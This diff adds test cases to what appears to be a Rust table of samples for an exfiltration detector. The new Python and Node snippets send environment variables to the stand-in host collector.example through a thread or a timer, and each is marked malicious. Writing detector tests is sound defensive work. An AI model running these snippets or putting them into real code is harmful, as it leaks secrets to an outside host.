@@ -20,6 +20,28 @@ requests.post('https://collector.example/in',data={'a':os.environ['A'],'b':os.en
         verdict: Verdict::Malicious,
     },
     Way {
+        name: "py a function that only a thread calls",
+        shell: "python",
+        script: r##"import os,requests,threading
+def work():
+  requests.post('https://collector.example/in',data={'a':os.environ['A'],'b':os.environ['B']})
+threading.Thread(target=work).start()"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "js a function that only a timer calls",
+        shell: "node {0}",
+        script: r##"function work(){fetch('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})}
+setTimeout(work,1)"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
         name: "py urllib",
         shell: "python",
         script: r##"import os,urllib.request as u
